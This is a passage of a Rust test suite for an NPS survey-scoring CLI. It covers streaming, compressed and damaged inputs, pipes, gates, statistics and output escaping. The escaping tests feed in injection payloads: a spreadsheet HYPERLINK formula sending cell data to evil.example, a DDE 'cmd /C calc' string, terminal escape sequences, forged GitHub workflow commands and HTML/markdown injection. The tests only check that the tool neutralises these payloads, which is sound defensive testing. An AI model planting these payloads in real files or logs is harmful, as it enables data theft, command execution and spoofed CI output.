        "a comment long enough to fill the file quickly ".repeat(4)
    );
    let mut text = String::from("score,comment\n");
    while text.len() < 40 << 20 {
        text.push_str(&row);
    }
    std::fs::write(&large, &text).unwrap();
    let large = large.display().to_string();
    let shown = nps_on_a_terminal(&["score", &large]);
    assert!(shown.contains(&format!("reading {large}")), "{shown}");
    assert!(shown.contains("NPS"), "{shown}");
    // Not with --quiet, not for a small input, and never when stderr is not a terminal.
    assert!(!nps_on_a_terminal(&["score", &large, "-q"]).contains("reading"));
    assert!(!nps_on_a_terminal(&["score", &fixture("example.csv")]).contains("reading"));
    let piped = nps(&["score", &large]);
    piped.expect(0);
    assert!(!piped.stderr.contains("reading"), "{}", piped.stderr);
    // On standard input the spinner counts what it has read.
    let command = format!("'{}' score - < '{large}'", env!("CARGO_BIN_EXE_nps"));
    let out = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(root())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{shown}");
    assert!(shown.contains("reading <stdin>: "), "{shown}");
    assert!(
        shown.contains(" MB read, ") && shown.contains(" records"),
        "{shown}"
    );
}

/// A CSV export longer than a stream's first block (over 1 MiB), with quoted line breaks.
fn long_export() -> String {
    let mut text = String::from("id,submitted_at,score,plan,comment\n");
    for i in 0..40_000 {
        let score = if i % 13 == 5 {
            String::new()
        } else {
            (i % 11).to_string()
        };
        text.push_str(&format!(
            "R{i},2025-{:02}-{:02}T08:00:00Z,{score},{},\"line one\nline \"\"two\"\"\"\n",
            1 + i % 12,
            1 + i % 28,
            ["free", "pro", "enterprise"][i % 3]
        ));
    }
    text
}

#[test]
fn stdin_gzip_and_zstd_stream_to_the_same_answers_as_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let text = long_export();
    let plain = dir.path().join("long.csv");
    std::fs::write(&plain, &text).unwrap();
    let gz = dir.path().join("long.csv.gz");
    let zst = dir.path().join("long.csv.zst");
    let run = |program: &str, args: &[&str]| {
        let status = Command::new(program).args(args).status().unwrap();
        assert!(status.success(), "{program} {args:?}");
    };
    run("gzip", &["-k", "-1", &plain.display().to_string()]);
    run(
        "zstd",
        &[
            "-q",
            "-1",
            &plain.display().to_string(),
            "-o",
            &zst.display().to_string(),
        ],
    );
    let plain = plain.display().to_string();
    for command in [
        &["score", "--format", "json"][..],
        &["segment", "--by", "plan", "--format", "json"],
        &["trend", "--every", "month", "--format", "json"],
    ] {
        let on_disk = nps(&[command, &[plain.as_str()]].concat()).expect(0).json();
        assert_eq!(on_disk["sources"][0]["pass"], "parallel");
        let mut expected = on_disk.clone();
        expected["sources"][0]["file"] = Value::Null;
        expected["sources"][0]["pass"] = Value::Null;
        expected["sources"][0]["compression"] = Value::Null;
        let compressed = [gz.display().to_string(), zst.display().to_string()];
        let mut runs: Vec<Run> = compressed
            .iter()
            .map(|f| nps(&[command, &[f.as_str()]].concat()))
            .collect();
        runs.push(nps_with_stdin(
            &[command, &["-"]].concat(),
            Some(text.as_bytes()),
        ));
        for run in runs {
            let mut j = run.expect(0).json();
            assert_eq!(j["sources"][0]["pass"], "stream", "{run:?}");
            j["sources"][0]["file"] = Value::Null;
            j["sources"][0]["pass"] = Value::Null;
            j["sources"][0]["compression"] = Value::Null;
            assert_eq!(j, expected, "{run:?}");
        }
    }
}

#[test]
fn a_cut_or_damaged_compressed_stream_is_exit_3_never_a_partial_answer() {
    let dir = tempfile::tempdir().unwrap();
    let text = long_export();
    let mut packed = system_gzip(&text);
    packed.truncate(packed.len() * 2 / 3);
    let cut = dir.path().join("cut.csv.gz");
    std::fs::write(&cut, &packed).unwrap();
    let cut = cut.display().to_string();
    let run = nps(&["score", &cut]);
    run.expect(3);
    assert!(run.stdout.is_empty(), "{run:?}");
    assert!(
        run.stderr.contains(&cut) && run.stderr.contains("gzip"),
        "{run:?}"
    );
    // Through stdin too.
    let run = nps_with_stdin(&["score", "-", "--format", "json"], Some(&packed));
    run.expect(3);
    assert!(run.stdout.is_empty(), "{run:?}");
    assert!(run.stderr.contains("<stdin>"), "{run:?}");
}

/// `text` gzipped by the system's gzip (the test binary links no compressor of its own).
fn system_gzip(text: &str) -> Vec<u8> {
    let mut child = Command::new("gzip")
        .arg("-c")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = text.as_bytes().to_vec();
    let writer = std::thread::spawn(move || stdin.write_all(&input).unwrap());
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    out.stdout
}

#[test]
fn a_damaged_parquet_file_is_an_error_not_a_crash() {
    // Byte 129 of the fixture is in a page header: flipped, it names an encoding that does not
    // exist, on which polars' reader panics instead of returning an error.
    let mut bytes = std::fs::read(fixture("formats/responses.parquet")).unwrap();
    bytes[129] ^= 0x5a;
    let dir = tempfile::tempdir().unwrap();
    let damaged = dir.path().join("damaged.parquet");
    std::fs::write(&damaged, &bytes).unwrap();
    let damaged = damaged.display().to_string();
    for command in [&["score"][..], &["trend", "--every", "month"], &["inspect"]] {
        let mut args = command.to_vec();
        args.push(&damaged);
        let run = nps(&args);
        run.expect(3);
        assert!(
            run.stderr.contains(&format!(
                "{damaged}: the Parquet file is damaged: polars' reader failed"
            )),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
        assert!(run.stdout.is_empty(), "{}", run.stdout);
    }
}

#[test]
fn fifos_and_devices_are_streams_and_binary_ones_stop_at_once() {
    // A process substitution is a FIFO: read once, front to back, like stdin.
    let command = format!(
        "'{}' score <(cat '{}') --format json",
        env!("CARGO_BIN_EXE_nps"),
        fixture("example.csv")
    );
    let out = Command::new("bash")
        .args(["-c", &command])
        .current_dir(root())
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let j: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(j["sources"][0]["pass"], "stream");
    // fixtures/README.md: example.csv has n 37.
    assert_eq!(j["n"], 37);
    // A named pipe is opened once: a writer that writes and leaves before nps reads is not
    // lost (finding F21: the pipe used to be opened twice, the second open waiting for ever).
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("answers.csv");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let fifo = fifo.display().to_string();
    for _ in 0..5 {
        let writer = {
            let fifo = fifo.clone();
            std::thread::spawn(move || std::fs::write(fifo, "id,score\n1,9\n2,3\n").unwrap())
        };
        let mut child = Command::new(env!("CARGO_BIN_EXE_nps"))
            .args(["score", &fifo, "--format", "json", "-q"])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                child.kill().unwrap();
                panic!("nps waits for ever on a named pipe");
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        writer.join().unwrap();
        let out = child.wait_with_output().unwrap();
        let j: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(j["n"], 2);
    }
    // An endless device of NUL bytes is binary data, said at once, not read to the end.
    let start = std::time::Instant::now();
    let run = nps(&["score", "/dev/zero"]);
    run.expect(3);
    assert!(
        run.stderr.contains("binary data (a NUL byte at offset 0)"),
        "{run:?}"
    );
    assert!(start.elapsed() < std::time::Duration::from_secs(20));
}

// ------------------------------------------- gates and tests under attack (F5, F6, F7, F12)

/// Runs nps with stdout on a pipe whose reader has gone before nps writes (`nps … | true`, or a
/// `| head` that has quit).
fn nps_into_closed_pipe(args: &[&str]) -> Run {
    let mut child = Command::new(env!("CARGO_BIN_EXE_nps"))
        .args(args)
        .current_dir(root())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the nps binary runs");
    drop(child.stdout.take()); // the reader goes away before nps has read its input
    let out = child.wait_with_output().unwrap();
    Run {
        cmdline: format!("nps {} | true", args.join(" ")),
        status: out.status.code().unwrap_or(-1),
        stdout: String::new(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn a_failed_gate_exits_1_even_when_the_reader_has_gone() {
    // Finding F5: `nps check … | head` made a failing gate exit 0 with no verdict on stderr.
    // example.csv: NPS 29.73 (fixtures/README.md), so --min 90 fails and --min 0 passes.
    let f = fixture("example.csv");
    let check = nps_into_closed_pipe(&["check", &f, "--min", "90"]);
    check.expect(1);
    assert!(
        check
            .stderr
            .contains("nps: check failed: 1 of 1 rules failed"),
        "{check:?}"
    );
    let score = nps_into_closed_pipe(&["score", &f, "--min", "90"]);
    score.expect(1);
    assert!(score.stderr.contains("nps: gate failed"), "{score:?}");

    // 3,000 one-response segments: far more output than a pipe holds.
    let dir = tempfile::tempdir().unwrap();
    let many = dir.path().join("seg3k.csv");
    let mut text = String::from("id,score,seg\n");
    for i in 0..3000 {
        text.push_str(&format!("{i},{},s{i}\n", i % 11));
    }
    std::fs::write(&many, text).unwrap();
    let many = many.display().to_string();
    let run = nps_into_closed_pipe(&["check", &many, "--by", "seg", "--min-n", "1", "--min", "90"]);
    run.expect(1);
    assert!(run.stderr.contains("nps: check failed"), "{run:?}");

    // Everything passing: a closed pipe stays success (DESIGN.md §6), with no error text.
    for args in [
        ["check", f.as_str(), "--min", "0"],
        ["score", f.as_str(), "--min", "0"],
    ] {
        let run = nps_into_closed_pipe(&args);
        run.expect(0);
        assert!(!run.stderr.contains("error"), "{run:?}");
    }
}

#[test]
fn non_finite_thresholds_are_usage_errors_naming_where_they_came_from() {
    // Finding F6: `--max-drop NaN` (flag, NPS_MAX_DROP or TOML `nan`) made every drop pass.
    let f = fixture("example.csv");
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().join("base.json");
    let base = base.to_str().unwrap();
    nps(&["score", &f, "--format", "json", "-o", base]).expect(0);

    for v in ["NaN", "nan", "inf", "-inf", "1e309", "250"] {
        let flag = format!("--max-drop={v}");
        let run = nps(&["check", &f, "--baseline", base, &flag]);
        run.expect(2);
        assert!(run.stderr.contains("--max-drop"), "{run:?}");
    }
    let run = nps_full(
        &["check", &f, "--baseline", base],
        None,
        &[("NPS_MAX_DROP", "NaN")],
    );
    run.expect(2);
    assert!(run.stderr.contains("NPS_MAX_DROP"), "{run:?}");

    // Every other threshold of check, from its flag and from its variable.
    for (flag, var) in [
        ("--min", "NPS_MIN"),
        ("--max-detractors", "NPS_MAX_DETRACTORS"),
        ("--min-promoters", "NPS_MIN_PROMOTERS"),
    ] {
        for v in ["NaN", "inf", "-inf"] {
            let run = nps(&["check", &f, &format!("{flag}={v}")]);
            run.expect(2);
            assert!(run.stderr.contains(flag), "{run:?}");
            let run = nps_full(&["check", &f], None, &[(var, v)]);
            run.expect(2);
            assert!(run.stderr.contains(var), "{run:?}");
        }
    }
    for v in ["NaN", "inf", "-inf"] {
        let run = nps(&["score", &f, &format!("--min={v}")]);
        run.expect(2);
        assert!(run.stderr.contains("--min"), "{run:?}");
        let run = nps(&["check", &f, "--min", "0", &format!("--confidence={v}")]);
        run.expect(2);
        assert!(run.stderr.contains("--confidence"), "{run:?}");
    }

    // The same from a rules file: the error names the file and the key.
    let rules = dir.path().join("rules.toml");
    for (key, value) in [
        ("max-drop", "nan"),
        ("max-drop", "inf"),
        ("max-drop", "-inf"),
        ("min", "nan"),
        ("min", "inf"),
        ("max-detractors", "nan"),
        ("min-promoters", "inf"),
    ] {
        let baseline = if key == "max-drop" {
            format!("baseline = {base:?}\n")
        } else {
            String::new()
        };
        std::fs::write(&rules, format!("{key} = {value}\n{baseline}")).unwrap();
        let run = nps(&["check", &f, "--rules", rules.to_str().unwrap()]);
        run.expect(2);
        assert!(
            run.stderr.contains("rules.toml") && run.stderr.contains(&format!("{key} ")),
            "{run:?}"
        );
    }
}

/// Writes a one-column CSV of `count` copies of `score` and returns its path.
fn unanimous(dir: &std::path::Path, name: &str, score: u8, count: usize) -> String {
    let path = dir.join(name);
    let mut text = String::from("score\n");
    for _ in 0..count {
        text.push_str(&format!("{score}\n"));
    }
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[test]
fn wald_on_unanimous_groups_tests_on_adjusted_counts_not_p_1() {
    // Finding F7: 20 detractors against 20 promoters under --ci wald gave z = 0, p = 1 (both
    // Wald SEs are 0) and passed `check --significant`. Both groups have zero variance, so the
    // test falls back on the adjusted-Wald counts (README, Statistics). By hand:
    //   A = 20 D → 20.75 D, 1.5 P, 0.75 R, n 23: net −20/23, V = 21.5/23 − (20/23)² = 94.5/529;
    //   B = 20 R → the mirror image: net +20/23, V = 94.5/529.
    //   SE = √(2 · 94.5/529 / 23) = √(189/12167) = 0.124635; Δ′ = 40/23 = 1.739130;
    //   z = Δ′/SE = 40·√(23/189) = 13.9538; p ≈ 3·10⁻⁴⁴ (below the f64 resolution of 1 − Φ: 0).
    let dir = tempfile::tempdir().unwrap();
    let all_d = unanimous(dir.path(), "alld.csv", 0, 20);
    let all_r = unanimous(dir.path(), "allr.csv", 10, 20);
    let j = compare_json(&[&all_d, &all_r, "--ci", "wald"]);
    let d = &j["difference"];
    close(&d["delta"], 200.0, 1e-9);
    close(&d["z"], 40.0 * (23.0f64 / 189.0).sqrt(), 1e-9);
    assert!(d["p_value"].as_f64().unwrap() < 1e-9, "{j}");
    assert!(d["note"].as_str().unwrap().contains("adjusted-Wald"), "{j}");
    assert!(
        j["verdict"]
            .as_str()
            .unwrap()
            .starts_with("+200.0 points, significant at 95% (p < 0.001"),
        "{j}"
    );
    let table = nps(&["compare", &all_d, &all_r, "--ci", "wald", "-q"]);
    table.expect(0);
    assert!(
        table.stdout.contains("z = 13.954") && !table.stdout.contains("p = 1.0"),
        "{table:?}"
    );

    // The gate: a 200-point drop under --significant now fails.
    let (status, j, run) = check_json(&[
        &all_d,
        "--baseline",
        &all_r,
        "--max-drop",
        "5",
        "--significant",
        "--ci",
        "wald",
    ]);
    assert_eq!(status, 1, "{run:?}");
    assert_eq!(j["rules"][0]["passed"], false);

    // Segments and periods share the test: a unanimous segment against a unanimous rest.
    let seg = dir.path().join("seg.csv");
    let mut text = String::from("score,plan\n");
    for i in 0..40 {
        text.push_str(if i < 20 { "0,a\n" } else { "10,b\n" });
    }
    std::fs::write(&seg, text).unwrap();
    let j = segment_json(
        seg.to_str().unwrap(),
        &["--by", "plan", "--ci", "wald", "--min-n", "1"],
    );
    for s in j["segments"].as_array().unwrap() {
        assert!(s["vs_rest"]["p_value"].as_f64().unwrap() < 1e-9, "{j}");
    }
}

#[test]
fn paired_tests_read_t_and_never_print_an_infinite_statistic() {
    // Finding F12: three pairs gave z = ∞ and a zero-width interval.
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let p = dir.path().join(name);
        std::fs::write(&p, text).unwrap();
        p.display().to_string()
    };
    // Changes +2, +2, +1 (0→9, 6→10, 7→10): mean 5/3, sd √(1/3), SE = 1/3, t = 5 on 2 df;
    // two-sided p = 1 − t/√(t² + 2) = 1 − 5/√27 = 0.037750 (the t distribution with 2 df has
    // that closed form); t₀.₉₇₅(2) = 4.302653, so 166.67 ± 143.42 → 23.24 to 200 (clamped).
    let c = write("pc.csv", "customer_id,score\nA,0\nB,6\nC,7\n");
    let d = write("pd.csv", "customer_id,score\nA,9\nB,10\nC,10\n");
    let j = compare_json(&[&c, &d, "--paired"]);
    let p = &j["paired"]["difference"];
    close(&p["z"], 5.0, 1e-9);
    close(&p["df"], 2.0, 0.0);
    close(&p["p_value"], 1.0 - 5.0 / 27f64.sqrt(), 1e-9);
    close(&p["low"], 100.0 * (5.0 / 3.0 - 4.302653 / 3.0), 1e-4);
    close(&p["high"], 200.0, 0.0);
    let table = nps(&["compare", &c, &d, "--paired", "-q"]);
    table.expect(0);
    assert!(table.stdout.contains("t = 5.000 (2 df)"), "{table:?}");

    // Every pair changed by +2 (0→10): no spread, so no t. The same respondents' answers are
    // tested as two groups on adjusted-Wald counts. By hand:
    //   A = 3 D → 3.75 D, 1.5 P, 0.75 R, n 6: net −0.5, V = 4.5/6 − 0.25 = 0.5;
    //   B = 3 R → net +0.5, V = 0.5.  SE = √(0.5/6 + 0.5/6) = √(1/6) = 0.408248;
    //   z = 1/0.408248 = 2.449490, p = 0.014306; Δ′ ± 1.959964·SE = 100 ± 80.015, its upper
    //   end 180.015 moved to the observed Δ, 200 (finding F27).
    let a = write("pa.csv", "customer_id,score\nA,0\nB,0\nC,0\n");
    let b = write("pb.csv", "customer_id,score\nA,10\nB,10\nC,10\n");
    let j = compare_json(&[&a, &b, "--paired"]);
    let p = &j["paired"]["difference"];
    close(&p["delta"], 200.0, 1e-9);
    close(&p["z"], 6f64.sqrt(), 1e-9);
    close(&p["p_value"], 0.014306, 1e-6);
    close(&p["low"], 100.0 - 1.959964 * 100.0 / 6f64.sqrt(), 1e-3);
    close(&p["high"], 200.0, 0.0);
    assert!(p["note"].as_str().unwrap().contains("same amount"), "{j}");
    let table = nps(&["compare", &a, &b, "--paired", "-q"]);
    table.expect(0);
    assert!(
        !table.stdout.contains("inf") && !table.stdout.contains("NaN"),
        "{table:?}"
    );
}
// Output safety (DESIGN.md §5; findings F13–F17): survey answers and column names are untrusted
// text, and every format must stay safe to open wherever it lands.

/// `name` with `content` in a fresh temporary directory (kept alive by the returned guard).
fn crafted(name: &str, content: &[u8]) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, content).unwrap();
    let path = path.display().to_string();
    (dir, path)
}

/// Control characters a terminal would act on: C0 except line feed, DEL, C1.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| c != '\n' && (c.is_control()))
        .collect()
}

/// Lines a GitHub Actions runner would take as a workflow command: `::` after leading
/// whitespace, or the legacy `##[` anywhere.
fn workflow_command_lines(text: &str) -> Vec<&str> {
    text.split(['\n', '\r'])
        .filter(|l| l.trim_start().starts_with("::") || l.contains("##["))
        .collect()
}

fn csv_records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn csv_output_neutralises_spreadsheet_formulas() {
    // F13: the adversarial report's inj.csv, plus a column name that is a formula.
    let values = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tTAB",
        "\rCR",
        "normal",
    ];
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "score", "=1+1"]).unwrap();
    for i in 0..21 {
        // Scores 0–6 only, so that every segment's NPS is negative (-100.0).
        w.write_record([
            i.to_string(),
            (i % 7).to_string(),
            values[i % 7].to_string(),
        ])
        .unwrap();
    }
    let (_dir, f) = crafted("inj.csv", &w.into_inner().unwrap());
    let run = nps(&[
        "segment", &f, "--by", "=1+1", "--min-n", "1", "-q", "-f", "csv",
    ]);
    run.expect(0);
    let records = csv_records(&run.stdout);
    assert_eq!(records[0][1], "'=1+1", "a column name is text: {run:?}");
    let nps_col = records[0].iter().position(|h| h == "nps").unwrap();
    let mut labels: Vec<&str> = records[1..]
        .iter()
        .filter(|r| r[0] == "segment")
        .map(|r| r[1].as_str())
        .collect();
    labels.sort_unstable();
    assert_eq!(
        labels,
        [
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "'@SUM(1+1)",
            // Ingest trims the whitespace around a value, so a leading TAB or CR never
            // arrives (the renderer's own test covers them).
            "CR",
            "TAB",
            "normal",
        ],
        "{run:?}"
    );
    // Numbers stay numbers: a negative NPS is not a formula.
    for r in &records[1..] {
        assert_eq!(r[nps_col], "-100.0", "{run:?}");
    }
    // Column names in inspect's CSV too.
    let inspect = nps(&["inspect", &f, "-q", "-f", "csv"]);
    inspect.expect(0);
    let columns: Vec<String> = csv_records(&inspect.stdout)[1..]
        .iter()
        .map(|r| r[2].clone())
        .collect();
    assert_eq!(columns, ["id", "score", "'=1+1"], "{inspect:?}");
    // JSON is the exact contract: values unchanged.
    let j = nps(&[
        "segment", &f, "--by", "=1+1", "--min-n", "1", "-q", "-f", "json",
    ]);
    assert!(j.expect(0).stdout.contains("\"@SUM(1+1)\""), "{j:?}");
}

#[test]
fn tables_and_stderr_never_carry_raw_control_characters() {
    // F14 (and F50): the adversarial report's esc.csv and hdr.csv.
    let (_d1, esc) = crafted(
        "esc.csv",
        b"id,score,plan\n1,9,\"evil\x1b]0;pwned\x07\x1b[31mRED\x1b[0m\"\n2,3,\"cr\rreturn\"\n3,5,ok\n4,7,\"del\x7f\xc2\x9bc1\"\n",
    );
    let run = nps(&["segment", &esc, "--by", "plan", "--min-n", "1", "-q"]);
    run.expect(0);
    assert_eq!(raw_controls(&run.stdout), [], "{run:?}");
    assert!(
        run.stdout
            .contains("evil\\u{1b}]0;pwned\\u{7}\\u{1b}[31mRED"),
        "shown escaped, not dropped: {run:?}"
    );
    assert!(run.stdout.contains("cr\\rreturn"), "{run:?}");
    for format in ["markdown", "csv"] {
        let run = nps(&[
            "segment", &esc, "--by", "plan", "--min-n", "1", "-q", "-f", format,
        ]);
        let controls: Vec<char> = raw_controls(&run.expect(0).stdout)
            .into_iter()
            .filter(|&c| c != '\r')
            .collect();
        assert_eq!(controls, [], "{run:?}");
    }
    let (_d2, hdr) = crafted(
        "hdr.csv",
        b"id,\"score\x1b]0;TITLE\x07\x1b[2J\"\n1,9\n2,3\n3,10\n",
    );
    for command in ["score", "inspect"] {
        let run = nps(&[command, &hdr]);
        run.expect(0);
        assert_eq!(raw_controls(&run.stdout), [], "{run:?}");
        assert_eq!(raw_controls(&run.stderr), [], "{run:?}");
    }
    // The gate's verdict on stderr quotes a segment name.
    let (_d3, vt) = crafted(
        "vt.csv",
        b"id,score,plan\n1,9,ok\n2,3,\"line\x0bbreak\x1b[2J\"\n",
    );
    let run = nps(&[
        "check", &vt, "--by", "plan", "--min-n", "1", "--min", "0", "-q",
    ]);
    run.expect(1);
    assert!(run.stderr.contains("line\\u{b}break"), "{run:?}");
    assert_eq!(raw_controls(&run.stderr), [], "{run:?}");
    assert_eq!(raw_controls(&run.stdout), [], "{run:?}");
    // An error quoting a cell value.
    let (_d4, bad) = crafted("bad.csv", b"id,score\n1,9\n2,\"7\x1b[2J\"\n");
    let run = nps(&["score", &bad, "--strict"]);
    run.expect(3);
    assert_eq!(raw_controls(&run.stderr), [], "{run:?}");
}

#[test]
fn user_text_cannot_issue_github_workflow_commands() {
    // F15: the adversarial report's gh.csv, plus a value that starts a table line with `::`.
    let (_dir, gh) = crafted(
        "gh.csv",
        b"id,score,plan\n1,9,\"x\n::error title=Deploy::fake failure\"\n2,3,\"y\r\n::add-mask::9\"\n3,7,\"##[error]legacy\"\n4,8,\"::warning::first\"\n5,6,\"  ::notice::spaced\"\n",
    );
    for format in ["table", "markdown", "csv"] {
        let run = nps(&[
            "segment", &gh, "--by", "plan", "--min-n", "1", "-q", "-f", format,
        ]);
        run.expect(0);
        assert_eq!(
            workflow_command_lines(&run.stdout),
            [] as [&str; 0],
            "{run:?}"
        );
    }
    let run = nps(&["inspect", &gh, "-f", "csv"]);
    assert_eq!(
        workflow_command_lines(&run.stdout),
        [] as [&str; 0],
        "{run:?}"
    );
    // check: the table, the CSV (scope is its first column) and stderr.
    for format in ["table", "csv"] {
        let run = nps(&[
            "check", &gh, "--by", "plan", "--min-n", "1", "--min", "0", "-f", format,
        ]);
        run.expect(1);
        assert_eq!(
            workflow_command_lines(&run.stdout),
            [] as [&str; 0],
            "{run:?}"
        );
        assert_eq!(
            workflow_command_lines(&run.stderr),
            [] as [&str; 0],
            "{run:?}"
        );
    }
    // --format github: one annotation per rule, user text escaped inside it.
    let run = nps(&[
        "check", &gh, "--by", "plan", "--min-n", "1", "--min", "0", "-q", "-f", "github",
    ]);
    run.expect(1);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "overall + five segments: {run:?}");
    for line in &lines {
        assert!(
            line.starts_with("::error title=nps check%3A ")
                || line.starts_with("::notice title=nps check%3A "),
            "{run:?}"
        );
        assert!(!line.contains('\r'), "{run:?}");
    }
    assert!(
        run.stdout.contains(
            "title=nps check%3A plan = x%0A%3A%3Aerror title=Deploy%3A%3Afake failure nps"
        ),
        "{run:?}"
    );
}

/// XML 1.0's `Char` production.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

#[test]
fn junit_stays_valid_xml_with_control_characters() {
    // F16: a vertical tab (Excel's line break in a cell), U+0001, backspace, ESC and U+FFFE.
    let (dir, f) = crafted(
        "vt.csv",
        "id,score,plan\n1,9,ok\n2,3,\"line\x0bbreak\x01\x08\x1b[2J\u{fffe}\"\n".as_bytes(),
    );
    let out = dir.path().join("vt.xml");
    let run = nps(&[
        "check",
        &f,
        "--by",
        "plan",
        "--min-n",
        "1",
        "--min",
        "0",
        "-q",
        "-f",
        "junit",
        "-o",
        out.to_str().unwrap(),
    ]);
    run.expect(1);
    let xml = std::fs::read_to_string(&out).unwrap();
    let bad: Vec<char> = xml.chars().filter(|&c| !xml_char(c)).collect();
    assert_eq!(bad, [], "{xml}");
    let mut reader = quick_xml::Reader::from_str(&xml);
    let mut classnames = Vec::new();
    loop {
        match reader.read_event().expect("well-formed XML") {
            quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                for a in e.attributes() {
                    let a = a.expect("well-formed attribute");
                    let value = a.unescape_value().expect("valid references").to_string();
                    // A character reference such as `&#11;` is as invalid as the raw byte.
                    assert!(value.chars().all(xml_char), "{value:?} in {xml}");
                    if a.key.as_ref() == b"classname" {
                        classnames.push(value);
                    }
                }
            }
            quick_xml::events::Event::Text(t) => {
                let text = t.decode().expect("valid text").to_string();
                assert!(text.chars().all(xml_char), "{text:?} in {xml}");
            }
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    assert!(
        classnames
            .contains(&"nps.plan = line\\u{b}break\\u{1}\\u{8}\\u{1b}[2J\\u{fffe}".to_string()),
        "{classnames:?}"
    );
}

#[test]
fn markdown_cells_cannot_break_rows_or_inject_markup() {
    // F17: the adversarial report's inj2.csv.
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "score", "plan"]).unwrap();
    let values = [
        "cr\rreturn",
        "![t](http://evil.example/p.png)",
        "<img src=x onerror=alert(1)>",
        "@org/security-team",
        "a|b\\|c",
        "lf\nfeed",
    ];
    for (i, v) in values.iter().enumerate() {
        w.write_record([
            i.to_string(),
            [9, 3, 5, 7, 8, 10][i].to_string(),
            v.to_string(),
        ])
        .unwrap();
    }
    let (_dir, f) = crafted("inj2.csv", &w.into_inner().unwrap());
    let run = nps(&[
        "segment", &f, "--by", "plan", "--min-n", "1", "-q", "-f", "md",
    ]);
    run.expect(0);
    let md = &run.stdout;
    assert!(!md.contains('\r'), "{run:?}");
    // Every row of the segment table has as many unescaped pipes as its header.
    let table: Vec<&str> = md
        .lines()
        .skip_while(|l| !l.starts_with("| plan |"))
        .take_while(|l| l.starts_with('|'))
        .collect();
    let pipes = |l: &str| {
        let mut n = 0;
        let mut escaped = false;
        for c in l.chars() {
            if c == '|' && !escaped {
                n += 1;
            }
            escaped = c == '\\' && !escaped;
        }
        n
    };
    assert_eq!(table.len(), 2 + values.len(), "{run:?}");
    for line in &table {
        assert_eq!(pipes(line), pipes(table[0]), "{line:?} in {run:?}");
    }
    // No raw HTML, image or link: each such character comes escaped.
    for c in ['<', '>', '!', '[', ']'] {
        let bare = md.replace(&format!("\\{c}"), "");
        assert!(!bare.contains(c), "unescaped {c:?}: {run:?}");
    }
    assert!(!md.contains("@org"), "no mention: {run:?}");
    assert!(
        md.contains("| a\\|b\\\\\\|c |"),
        "backslashes kept: {run:?}"
    );
}

#[test]
fn json_keeps_values_exact_yet_safe_on_a_terminal_and_in_ci_logs() {
    // serde_json escapes C0 controls but not DEL or C1 (U+009B is a CSI to some terminals), and
    // a legacy `##[error]` anywhere in a line is a workflow command to the GitHub runner.
    let value = "del\x7f c1\u{9b}31m ##[error]legacy esc\x1b";
    let (_dir, f) = crafted(
        "j.csv",
        format!("id,score,plan\n1,9,\"{value}\"\n2,3,ok\n").as_bytes(),
    );
    let run = nps(&[
        "segment", &f, "--by", "plan", "--min-n", "1", "-q", "-f", "json",
    ]);
    run.expect(0);
    assert_eq!(raw_controls(&run.stdout), [] as [char; 0], "{run:?}");
    assert_eq!(
        workflow_command_lines(&run.stdout),
        [] as [&str; 0],
        "{run:?}"
    );
    let j = run.json();
    let plans: Vec<&str> = j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["values"]["plan"].as_str().unwrap())
        .collect();
    assert!(plans.contains(&value), "the exact value: {plans:?}");
}

// ---------------------------------------------------------------- inputs (findings F9–F11)

#[test]
fn the_same_input_named_twice_is_a_usage_error() {
    // Finding F9: counting one file twice doubles n and narrows every interval; exit 2 instead,
    // naming both spellings.
    let (dir, f) = crafted("base.csv", b"score\n9\n10\n3\n7\n8\n9\n");
    let dotted = dir.path().join(".").join("base.csv").display().to_string();
    for args in [vec![&f, &f], vec![&f, &dotted]] {
        let mut all = vec!["score"];
        all.extend(args.iter().map(|s| s.as_str()));
        let run = nps(&all);
        run.expect(2);
        assert!(
            run.stderr.contains("counted twice") && run.stderr.contains(args[1].as_str()),
            "{run:?}"
        );
    }
    let link = dir.path().join("hl.csv");
    std::fs::hard_link(&f, &link).unwrap();
